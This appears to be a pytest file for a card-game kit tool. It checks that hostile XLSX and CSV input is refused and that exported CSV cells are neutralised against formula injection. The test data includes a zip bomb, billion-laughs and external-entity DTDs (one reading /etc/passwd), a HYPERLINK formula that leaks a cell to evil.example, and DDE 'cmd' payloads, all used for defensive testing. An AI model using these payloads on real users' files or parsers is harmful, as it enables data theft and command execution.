"""Spreadsheet decks attacked as a hostile spreadsheet would (issue 21): zip bombs, entity
expansion and external entities, UTF-16 parts, lying dimensions, huge sheets, formulas; and
formula injection into the CSV kitgen writes (`kitgen convert --to csv`, the PNG export's
cards.csv), which must still round-trip every value, "+2" deltas included.

Each hostile workbook is the tiny game's deck converted to XLSX by kitgen, with one part
rewritten. Refusals run the real CLI (`kitgen validate`: one located line, exit 1, a time bound).
"""
from __future__ import annotations

import csv
import dataclasses
import io
import re
import zipfile
from pathlib import Path

import pytest

from kitgen.load import load_game
from kitgen.load.convert import convert_deck
from kitgen.load.sheet import csv_cell, restore_cell
from tests.attacks.harness import assert_no_crash, assert_one_line, kitgen, kitgen_in_process, tiny_copy

SHEET = "xl/worksheets/sheet1.xml"


@pytest.fixture
def workbook(tmp_path) -> Path:
    """A copy of the tiny game whose deck keeps its cards in decks/main.xlsx (written by kitgen)."""
    game = tiny_copy(tmp_path)
    convert_deck(game / "decks" / "main.yaml", "xlsx")
    return game


def rewrite(game: Path, change, extra: dict[str, bytes] | None = None) -> Path:
    """Rewrite decks/main.xlsx: `change` maps the first sheet's XML text to the hostile one."""
    path = game / "decks" / "main.xlsx"
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts[SHEET] = change(parts[SHEET].decode()).encode() if change else parts[SHEET]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in {**parts, **(extra or {})}.items():
            archive.writestr(name, data)
    return path


def refused(game: Path, message: str, where: str = "") -> None:
    timed = kitgen("validate", game, timeout=30)
    shown = re.escape(str(game / "decks" / "main.xlsx")) + where
    assert_one_line(timed, re.compile(shown + ": error: " + message + ".*"), seconds=20)


def cards(game: Path) -> list:
    return [dataclasses.replace(card, where=None) for deck in load_game(game).decks for card in deck.cards]


def cell(row: int, col: str, xml: str) -> str:
    return f'<c r="{col}{row}"{xml}'


# --- zip bombs and XML tricks: refused before openpyxl reads a byte -------------------------

def test_sheet_a_zip_bomb__refused_by_its_declared_size(workbook):
    """70 MB of zeros pack into 70 KB: the part sizes the zip declares are added up first (zipfile
    never unpacks more than a part declares)."""
    rewrite(workbook, None, {"xl/media/padding.xml": b"\0" * (70 << 20)})
    refused(workbook, r"not a readable \.xlsx workbook \(it unpacks to \d+ parts and 73,\d{3},\d{3} bytes; the "
                      r"limits are 1,000 parts and 67,108,864 bytes\)")


def test_sheet_a_zip_of_many_parts__refused(workbook):
    rewrite(workbook, None, {f"xl/junk/{n}.xml": b"" for n in range(1001)})
    refused(workbook, r"not a readable \.xlsx workbook \(it unpacks to 1,01\d parts")


LAUGHS = ('<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
          + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + "]>")


@pytest.mark.parametrize("dtd, entity", [
    (LAUGHS, "&j;"),  # a billion laughs: 10^10 bytes from 1 KB
    ('<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),  # an external entity
    ('<!DOCTYPE w [<!ENTITY % p SYSTEM "http://127.0.0.1:9/evil.dtd"> %p;]>', "x"),  # a parameter entity fetched
])
def test_sheet_a_dtd_with_entities__refused_never_expanded(workbook, dtd, entity):
    """These crashed kitgen (an internal error: ParseError) before."""
    rewrite(workbook, lambda xml: xml.replace("<worksheet", dtd + "<worksheet", 1).replace("<t>Scout</t>",
                                                                                            f"<t>{entity}</t>"))
    refused(workbook, r"not a readable \.xlsx workbook \(xl/worksheets/sheet1\.xml declares a DTD \(<!DOCTYPE>\), "
                      r"which no spreadsheet app writes; kitgen does not expand entities\)")


def test_sheet_a_utf16_part__refused(workbook):
    """A UTF-16 part would hide a DTD from a scan of bytes."""
    rewrite(workbook, None, {"xl/sharedStrings.xml": ('<?xml version="1.0" encoding="UTF-16"?>' + LAUGHS + "<sst/>")
                             .encode("utf-16")})
    refused(workbook, r"not a readable \.xlsx workbook \(xl/sharedStrings\.xml is UTF-16")


def test_sheet_xml_nested_100000_deep__read_without_a_crash(workbook):
    rewrite(workbook, lambda xml: xml.replace("<sheetData>", "<sheetData>" + "<a>" * 100_000 + "</a>" * 100_000))
    assert_no_crash(kitgen("validate", workbook, timeout=30), seconds=20)


def test_sheet_malformed_xml__one_line_not_a_crash(workbook):
    rewrite(workbook, lambda xml: xml.replace("</sheetData>", "<row><c></sheetData>"))
    refused(workbook, r"not a readable \.xlsx workbook \(ParseError: mismatched tag")


def test_sheet_not_a_zip__one_line(workbook):
    (workbook / "decks" / "main.xlsx").write_text("name,type\nScout,Ship\n", encoding="utf-8")
    refused(workbook, r"not a readable \.xlsx workbook \(File is not a zip file\)")


# --- huge sheets: bounded while read, each refusal at its row or cell ------------------------

def test_sheet_a_dimension_that_claims_a_million_rows__trusted_only_as_far_as_cells(workbook):
    rewrite(workbook, lambda xml: re.sub(r'<dimension ref="[^"]*" ?/>', '<dimension ref="A1:XFD1048576"/>', xml))
    run = kitgen("validate", workbook, timeout=30)
    assert run.run.returncode == 0 and run.seconds < 20, run.run.describe()


def test_sheet_a_row_past_the_last_row__refused_at_it(workbook):
    """<row r="999999999">: openpyxl makes an empty row for each number skipped."""
    rewrite(workbook, lambda xml: xml.replace("</sheetData>", '<row r="999999999"><c r="A999999999" t="inlineStr">'
                                                             "<is><t>x</t></is></c></row></sheetData>"))
    refused(workbook, r"a row beyond row 1,048,576, a spreadsheet's last", ":1048577")


def test_sheet_a_cell_in_the_last_column__refused_at_it(workbook):
    """One cell at XFD6 makes openpyxl pad its row to 16,384 cells; a whole sheet of them, memory."""
    rewrite(workbook, lambda xml: xml.replace("</sheetData>", '<row r="6"><c r="XFD6" t="inlineStr"><is><t>x</t>'
                                                             "</is></c></row></sheetData>"))
    refused(workbook, r"a cell in column 16,384; the limit is 256 columns", ":6:16384")


def test_sheet_a_styled_empty_cell_far_right__not_a_problem(workbook):
    """Apps write empty styled cells far out: only a cell with a value counts."""
    rewrite(workbook, lambda xml: xml.replace("</sheetData>", '<row r="6"><c r="XFD6" s="0"/></row></sheetData>'))
    assert kitgen("validate", workbook, timeout=30).run.returncode == 0


def test_sheet_csv_of_too_many_rows__refused_at_the_row(tmp_path):
    game = csv_game(tmp_path, "name,type\n" + "Scout,Ship\n" * 50_001)
    assert_one_line(kitgen("validate", game), f"{game / 'decks' / 'main.csv'}:50002: error: more than 50,000 rows "
                                              "of cards; the limit is 50,000")


def test_sheet_csv_a_cell_of_40000_characters__refused_at_the_cell(tmp_path):
    game = csv_game(tmp_path, "name,type,text\nScout,Ship," + "x" * 40_000 + "\n")
    assert_one_line(kitgen("validate", game), f"{game / 'decks' / 'main.csv'}:2:3: error: a cell of 40,000 characters; "
                                              "the limit is 32,767 (a spreadsheet app's own)")


def test_sheet_csv_a_cell_past_the_csv_modules_limit__refused_at_its_row(tmp_path):
    game = csv_game(tmp_path, "name,type,text\nScout,Ship,\"" + "x" * 200_000 + "\"\n")
    assert_one_line(kitgen("validate", game), re.compile(re.escape(str(game / "decks" / "main.csv")) +
                                                         r":2: error: CSV: field larger than field limit \(131072\)"))


def test_sheet_csv_of_300_columns__refused(tmp_path):
    game = csv_game(tmp_path, "name,type," + ",".join(f"c{n}" for n in range(300)) + "\nScout,Ship," + "1," * 299 + "1\n")
    assert_one_line(kitgen("validate", game), f"{game / 'decks' / 'main.csv'}:1: error: 302 columns; the limit is 256")


def csv_game(tmp_path: Path, text: str) -> Path:
    game = tiny_copy(tmp_path)
    deck = game / "decks" / "main.yaml"
    deck.write_text(deck.read_text(encoding="utf-8").split("cards:")[0] + "cards: main.csv\n", encoding="utf-8")
    (game / "decks" / "main.csv").write_text(text, encoding="utf-8")
    return game


# --- formulas: never evaluated; the saved value is read, or the cell is refused ----------------

def test_sheet_a_formula_saved_without_its_value__refused_at_its_cell(workbook):
    """It read as an empty cell: Scout silently lost its Military +1."""
    rewrite(workbook, lambda xml: re.sub(r'<c r="C2" t="n"><v>1</v></c>', '<c r="C2"><f>1+0</f></c>', xml))
    refused(workbook, r"cards!C2: a formula \(=1\+0\) saved without its value; kitgen never computes formulas: open "
                      r"and save the sheet in a spreadsheet app, or type the value", ":2:3")


def test_sheet_a_shared_formula_without_a_value__refused_at_its_cell(workbook):
    rewrite(workbook, lambda xml: re.sub(r'<c r="C3" t="n"><v>2</v></c>', '<c r="C3"><f t="shared" si="0"/></c>',
                                         re.sub(r'<c r="C2" t="n"><v>1</v></c>',
                                                '<c r="C2"><f t="shared" ref="C2:C3" si="0">1+0</f><v>1</v></c>', xml)))
    refused(workbook, r"cards!C3: a formula \(=1\+0\) saved without its value", ":3:3")


def test_sheet_a_row_of_only_a_formula_without_its_value__refused_at_its_cell(workbook):
    """A row whose every value is missing is a blank row to the values' reading: the formula is still found."""
    rewrite(workbook, lambda xml: xml.replace("</sheetData>", '<row r="6"><c r="A6" t="str"><f>"Cruiser"</f></c>'
                                                             "</row></sheetData>"))
    refused(workbook, r"cards!A6: a formula \(=\"Cruiser\"\) saved without its value", ":6:1")


def test_sheet_a_formula_with_its_saved_value__reads_that_value_never_the_formula(workbook):
    """=HYPERLINK(...) saved with the value 2: the card reads 2; nothing is computed or fetched."""
    before = cards(workbook)
    rewrite(workbook, lambda xml: re.sub(r'<c r="C3" t="n"><v>2</v></c>',
                                         '<c r="C3"><f>HYPERLINK("http://127.0.0.1:9/x",WEBSERVICE("x"))</f><v>2</v></c>',
                                         xml))
    assert cards(workbook) == before


def test_sheet_text_that_looks_like_a_formula__is_text(workbook):
    """A string cell "=1+1" (typed with an apostrophe) is a name, as written."""
    rewrite(workbook, lambda xml: xml.replace("<t>Scout</t>", "<t>=1+1</t>"))
    assert cards(workbook)[0].name == "=1+1"


# --- formula injection into the CSV kitgen writes ---------------------------------------------

DANGEROUS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-2 to every other player", "+1 card"]
KEPT = ["'Tis the Season", "'=already quoted", "''+two quotes", "Plain", "2", "+2", "-1", "3.5", "=", "@"]


@pytest.mark.parametrize("value", DANGEROUS + KEPT)
def test_sheet_csv_cell__never_a_formula_to_a_spreadsheet_app_and_read_back_as_written(value):
    written = csv_cell(value)
    plain_number = re.fullmatch(r"[+-]?\d+(\.\d+)?", value)
    assert plain_number or not re.match(r"[=+\-@\t\r]", written), written
    assert restore_cell(written) == value


def test_sheet_convert_to_csv__hostile_names_and_texts_neutralised_and_the_round_trip_loses_nothing(tmp_path):
    game = tiny_copy(tmp_path)
    deck = game / "decks" / "main.yaml"
    text = deck.read_text(encoding="utf-8")
    for old, new in [("Scout", DANGEROUS[0]), ("Frigate", DANGEROUS[1]), ("Market", DANGEROUS[3]),
                     ("Library", "'=already quoted")]:
        text = text.replace(f"{{name: {old},", f"{{name: {_yaml(new)}, text: {_yaml('-2 to every other player')},")
    deck.write_text(text, encoding="utf-8")
    before = cards(game)
    convert_deck(deck, "csv")
    rows = list(csv.reader(io.StringIO((game / "decks" / "main.csv").read_text(encoding="utf-8"))))
    for row in rows:
        for value in row:
            assert not re.match(r"[=@\t\r]", value) and not re.match(r"[+-](?!\d+$)", value), row
    assert "+1" in rows[1] or "+2" in rows[2]  # deltas stay plain signed numbers
    assert rows[1][0] == "'" + DANGEROUS[0] and rows[4][0] == "''=already quoted"
    assert cards(game) == before
    convert_deck(deck, "yaml")
    assert cards(game) == before


def test_sheet_convert_to_xlsx__hostile_names_stored_as_text_never_as_formulas(tmp_path):
    game = tiny_copy(tmp_path)
    deck = game / "decks" / "main.yaml"
    deck.write_text(deck.read_text(encoding="utf-8").replace("{name: Scout,", f"{{name: {_yaml(DANGEROUS[0])},")
                    .replace("{name: Frigate,", f"{{name: {_yaml(DANGEROUS[1])},"), encoding="utf-8")
    before = cards(game)
    convert_deck(deck, "xlsx")
    with zipfile.ZipFile(game / "decks" / "main.xlsx") as archive:
        xml = archive.read(SHEET).decode()
    assert "<f>" not in xml and "<f " not in xml
    assert cards(game) == before


def test_sheet_png_export_cards_csv__card_names_never_formulas(tmp_path):
    game = tiny_copy(tmp_path)
    deck = game / "decks" / "main.yaml"
    deck.write_text(deck.read_text(encoding="utf-8").replace("{name: Scout,", "{name: '=HYPERLINK(\"x\")',")
                    .replace("name: Main Deck", "name: '@SUM(1)'"), encoding="utf-8")
    run = kitgen("export", game, "--format", "png", "--dpi", "50", "-o", tmp_path / "png", timeout=60)
    assert run.run.returncode == 0, run.run.describe()
    rows = list(csv.reader(io.StringIO((tmp_path / "png" / "cards.csv").read_text(encoding="utf-8"))))
    assert ["'=HYPERLINK(\"x\")", "1"] in [row[1:] for row in rows]
    assert any(row[1] == "'@SUM(1) (back)" for row in rows)
    assert not any(re.match(r"[=+\-@\t\r]", value) for row in rows for value in row)


def _yaml(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


# --- separators: found, never guessed wrong in silence (issue 35) ------------------------------

def test_sheet_csv_a_row_with_another_separator__refused_at_the_row(tmp_path):
    game = csv_game(tmp_path, "name,type,Military\nScout,Ship,+1\nFrigate;Ship;+2\n")
    assert_one_line(kitgen_in_process("validate", game),
                    f"{game / 'decks' / 'main.csv'}:3:1: error: this row is separated by semicolons, the header by "
                    "commas; save the file with one separator")


def test_sheet_csv_a_header_of_two_separators__refused_naming_both(tmp_path):
    game = csv_game(tmp_path, "name;type,Military\nScout;Ship,+1\n")
    assert_one_line(kitgen_in_process("validate", game),
                    f"{game / 'decks' / 'main.csv'}:1:1: error: the header holds commas and semicolons: kitgen cannot "
                    "tell which separates the columns; save the file with one separator (a comma, a semicolon or a "
                    "tab) between all the columns")


def test_sheet_csv_a_huge_first_field__sniffed_from_the_start_only_and_refused_at_its_cell(tmp_path):
    game = csv_game(tmp_path, "name;type;text\nScout;Ship;" + "x;" * 20_000 + "\n")
    timed = kitgen_in_process("validate", game)
    assert_no_crash(timed, seconds=10)
    assert timed.run.returncode == 1 and "main.csv:1:1: error" not in timed.run.stderr  # the separator was found


def test_sheet_csv_control_characters_in_a_header__shown_escaped(tmp_path):
    game = csv_game(tmp_path, "name,type,Mil\x1b[2Jitary\u202e\nScout,Ship,+1\n")
    run = kitgen_in_process("validate", game).run
    assert run.returncode == 1 and "\x1b" not in run.stderr and "\u202e" not in run.stderr
    assert "column 'Mil\\x1b[2Jitary\\u202e'" in run.stderr
